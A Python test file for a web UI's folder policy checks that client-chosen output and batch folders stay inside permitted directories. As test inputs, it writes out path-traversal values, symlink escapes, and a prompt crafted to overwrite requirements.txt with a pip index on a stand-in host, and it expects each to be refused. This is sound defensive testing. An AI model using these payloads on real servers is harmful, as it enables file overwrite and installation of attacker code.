"""Server folders a client may name: output-folder settings (API options, override_settings, the Settings tab)
and the img2img / Extras batch folders stay inside the data folder or --allowed-paths; with --listen and no
login the page's folder fields are refused."""

from __future__ import annotations

import os

import pytest
import requests

from modules.engine import BadRequest
from modules.folders import FolderPolicy, FolderRefused
from tests.support.engine import make_engine, started
from tests.support.server import setup_data, start_server, stop_server

PROMPT = "a red circle"


# ---------------------------------------------------------------- the rule


def test_inside_the_data_folder_or_an_allowed_one(tmp_path):
    data, extra, outside = tmp_path / "data", tmp_path / "shared-outputs", tmp_path / "elsewhere"
    for d in (data, extra, outside):
        d.mkdir()
    policy = FolderPolicy(data, (extra,))
    assert policy.resolve("outdir_samples", "outputs/x") == data / "outputs" / "x"
    assert policy.resolve("outdir_samples", str(data / "a")) == data / "a"
    assert policy.resolve("outdir_samples", str(extra / "b" / "c")) == extra / "b" / "c"
    assert policy.resolve("outdir_samples", "outputs/../outputs2") == data / "outputs2"
    for bad in ("../elsewhere", "outputs/../../elsewhere", str(outside), "/etc", "~", str(tmp_path)):
        with pytest.raises(FolderRefused, match=r"^outdir_samples: .*--allowed-paths"):
            policy.resolve("outdir_samples", bad)
    # a folder whose name starts like the data folder's is not inside it
    (tmp_path / "data-evil").mkdir()
    with pytest.raises(FolderRefused):
        policy.resolve("outdir_samples", str(tmp_path / "data-evil"))


def test_a_symlink_inside_that_leads_outside_is_refused(tmp_path):
    data, outside = tmp_path / "data", tmp_path / "elsewhere"
    data.mkdir()
    outside.mkdir()
    os.symlink(outside, data / "link")
    with pytest.raises(FolderRefused):
        FolderPolicy(data).resolve("outdir_save", "link/images")


def test_inside_the_program_folder_only_outputs_and_log(tmp_path):
    """Without --data-dir the data folder is the program folder: its code and what the launcher installs
    (requirements.txt) are closed to clients; outputs/ and log/ (where the default folders are) stay open."""
    program = tmp_path / "webui"
    (program / "modules").mkdir(parents=True)
    policy = FolderPolicy(program, program=program)
    assert policy.resolve("outdir_samples", "outputs/txt2img-images") == program / "outputs" / "txt2img-images"
    assert policy.resolve("outdir_save", "log/images") == program / "log" / "images"
    assert policy.resolve("outdir_save", str(program / "outputs")) == program / "outputs"
    for bad in (".", "modules", "configs/tokenizer", str(program), "outputs/../modules", "outputs-x", "logs",
                "./venv/lib"):
        with pytest.raises(FolderRefused, match=r"^outdir_samples: .* is inside the program folder .* only "
                                                r"outputs/ and log/"):
            policy.resolve("outdir_samples", bad)
    # a symlink in outputs/ that leads back into the program is followed, and refused
    (program / "outputs").mkdir()
    os.symlink(program / "modules", program / "outputs" / "link")
    with pytest.raises(FolderRefused, match="inside the program folder"):
        policy.resolve("outdir_samples", "outputs/link")
    # the owner may open a folder there with --allowed-paths
    assert FolderPolicy(program, (program / "inputs",), program=program).resolve(
        "Batch: input directory", "inputs/a") == program / "inputs" / "a"
    # a separate data folder inside the program folder is the user's, and open
    data = program / "my-data"
    data.mkdir()
    inside = FolderPolicy(data, program=program)
    assert inside.resolve("outdir_samples", "anything") == data / "anything"
    with pytest.raises(FolderRefused, match="is outside the data folder"):  # the program's outputs/ is not its
        inside.resolve("outdir_samples", str(program / "outputs" / "x"))
    with pytest.raises(FolderRefused, match="inside the program folder"):
        inside.resolve("outdir_samples", "../modules")


def test_the_program_folder_is_the_real_one_by_default(tmp_path):
    from modules import paths
    assert FolderPolicy(tmp_path).program == paths.ROOT
    with pytest.raises(FolderRefused, match="inside the program folder"):
        FolderPolicy(paths.ROOT).resolve("outdir_samples", ".")


def test_only_changed_folder_settings_are_checked(tmp_path):
    policy = FolderPolicy(tmp_path)
    current = {"outdir_samples": "/srv/owner-chose-this"}  # written into config.json by the owner
    policy.check_settings({"outdir_samples": "/srv/owner-chose-this", "n_rows": 3}, current)
    policy.check_settings({"outdir_samples": ""}, current)  # back to the per-kind folders
    with pytest.raises(FolderRefused, match="outdir_grids"):
        policy.check_settings({"outdir_grids": "/srv/other"}, current)


def test_page_folders_are_refused_on_the_network_without_a_login(tmp_path):
    policy = FolderPolicy(tmp_path, server_folders=False)
    with pytest.raises(FolderRefused, match="Batch: input directory: .*without a login"):
        policy.page_folder("Batch: input directory", "inputs")
    assert FolderPolicy(tmp_path).page_folder("Batch: input directory", "inputs") == tmp_path / "inputs"


@pytest.mark.parametrize("flags, open_", [
    ([], True),
    (["--listen"], False),
    (["--listen", "--api-auth", "a:b"], True),
    (["--listen", "--gradio-auth", "a:b"], True),
    (["--server-name", "127.0.0.2"], True),  # loopback: only this machine
    (["--server-name", "10.1.2.3"], False),
])
def test_start_up_wires_the_rule_from_the_flags(tmp_path, flags, open_):
    with started("--data-dir", str(tmp_path), "--nowebui", "--no-builtin-model",
                 "--allowed-paths", f"{tmp_path / 'x'}, {tmp_path / 'y'}", *flags) as engine:
        assert engine.folders.server_folders is open_
        assert engine.folders.allowed == (tmp_path / "x", tmp_path / "y")


# ---------------------------------------------------------------- the engine


def test_engine_refuses_folder_settings_outside(data_dir, tmp_path_factory):
    engine = make_engine(data_dir)
    victim = tmp_path_factory.mktemp("victim") / "precious.txt"
    victim.write_text("keep me")
    try:
        with pytest.raises(BadRequest, match="^outdir_txt2img_samples: '../../x' is outside"):
            engine.set_options({"outdir_txt2img_samples": "../../x"})
        assert engine.options.values.outdir_txt2img_samples == "outputs/txt2img-images"
        # the attack the issue names: save_txt with a fixed file name into a folder outside the outputs
        from modules.generation.params import GenerationParams
        attack = GenerationParams(prompt=PROMPT, width=64, height=64, steps=1, override_settings={
            "outdir_samples": str(victim.parent), "save_txt": True, "samples_filename_pattern": "precious",
            "save_images_add_number": False, "save_to_dirs": False})
        with pytest.raises(BadRequest, match="^override_settings: outdir_samples: .* is outside"):
            engine.submit_txt2img(attack)
        assert victim.read_text() == "keep me"
        engine.set_options({"outdir_txt2img_samples": "my-outputs/t2i"})  # inside: fine
        assert engine.options.values.outdir_txt2img_samples == "my-outputs/t2i"
    finally:
        engine.queue.stop()


def test_a_client_cannot_replace_requirements_txt_in_the_program_folder(tmp_path, tiny_dir):
    """The attack that made the program folder closed: an image's .txt saved as requirements.txt in the program
    folder (the default data folder), which the launcher hands to pip at the next start."""
    from modules import bootstrap, devices, paths
    from modules.folders import FolderPolicy as Policy
    from modules.generation.params import GenerationParams
    from tests.support.server import setup_data

    program = tmp_path / "webui"
    setup_data(program, tiny_dir)
    requirements = program / "requirements.txt"
    requirements.write_text("torch\n")
    engine = bootstrap.build_engine(paths.from_args(str(program)), devices.plan(skip_cuda_test=True),
                                    folders=Policy(program, program=program))
    engine.options.update({"sd_model_checkpoint": "sd1.safetensors"})
    try:
        for folder in (".", str(program), "outputs/.."):
            attack = GenerationParams(
                prompt="evilpkg\n--index-url https://example.invalid/simple \\", width=64, height=64, steps=1,
                save_images=True, override_settings={
                    "outdir_txt2img_samples": folder, "save_to_dirs": False, "save_txt": True,
                    "samples_filename_pattern": "requirements", "save_images_add_number": False,
                    "save_images_replace_action": "Replace"})
            with pytest.raises(BadRequest, match="outdir_txt2img_samples: .* inside the program folder"):
                engine.submit_txt2img(attack)
            with pytest.raises(BadRequest, match="inside the program folder"):
                engine.set_options({"outdir_txt2img_samples": folder})
        assert requirements.read_text() == "torch\n"
    finally:
        engine.queue.stop()


# ---------------------------------------------------------------- over HTTP


@pytest.fixture(scope="module")
def folder_server(tmp_path_factory, tiny_dir):
    root = tmp_path_factory.mktemp("folders")
    data, allowed = root / "data", root / "allowed"
    setup_data(data, tiny_dir)
    allowed.mkdir()
    proc, url = start_server(data, "--api", "--nowebui", "--allowed-paths", str(allowed))
    yield url, data, allowed, root
    stop_server(proc)


@pytest.mark.server
def test_api_options_and_override_settings_stay_inside(folder_server):
    url, data, allowed, root = folder_server
    for value in ("../../x", str(root / "elsewhere"), "/tmp"):
        r = requests.post(url + "/sdapi/v1/options", json={"outdir_samples": value}, timeout=30)
        assert r.status_code == 400 and "outdir_samples" in r.text and "outside" in r.text, (value, r.text)
        r = requests.post(url + "/sdapi/v1/txt2img", timeout=60, json={
            "prompt": PROMPT, "width": 64, "height": 64, "steps": 1, "override_settings": {"outdir_grids": value}})
        assert r.status_code == 400 and "outdir_grids" in r.text, (value, r.text)
    assert requests.get(url + "/sdapi/v1/options", timeout=30).json()["outdir_samples"] == ""
    assert not (root / "elsewhere").exists()

    # an --allowed-paths folder works, and images go there
    r = requests.post(url + "/sdapi/v1/options", json={"outdir_txt2img_samples": str(allowed / "t2i")}, timeout=30)
    assert r.status_code == 200, r.text
    r = requests.post(url + "/sdapi/v1/txt2img", timeout=120, json={
        "prompt": PROMPT, "width": 64, "height": 64, "steps": 1, "save_images": True})
    assert r.status_code == 200, r.text
    assert list((allowed / "t2i").rglob("*.png"))


def test_a_batch_folder_lists_its_images_and_no_link_that_leads_out(tmp_path):
    """The img2img and Extras batch folders are checked when the page names them; a file inside that is a link
    to somewhere else (another folder, /etc) was not, so it is left out."""
    from modules.engine import BadRequest
    from modules.ui.common import images_in

    folder, outside = tmp_path / "in", tmp_path / "elsewhere"
    folder.mkdir()
    outside.mkdir()
    for name in ("b.png", "a.JPG", "notes.txt"):
        (folder / name).write_bytes(b"x")
    (folder / "d.png").mkdir()  # a folder named like an image
    (outside / "secret.png").write_bytes(b"x")
    (folder / "secret.png").symlink_to(outside / "secret.png")
    (folder / "c.png").symlink_to(folder / "b.png")  # a link within the folder is fine
    assert [f.name for f in images_in(folder, "Batch")] == ["a.JPG", "b.png", "c.png"]
    with pytest.raises(BadRequest, match=r"^Batch: cannot read .*missing \(No such file or directory\)$"):
        images_in(tmp_path / "missing", "Batch")
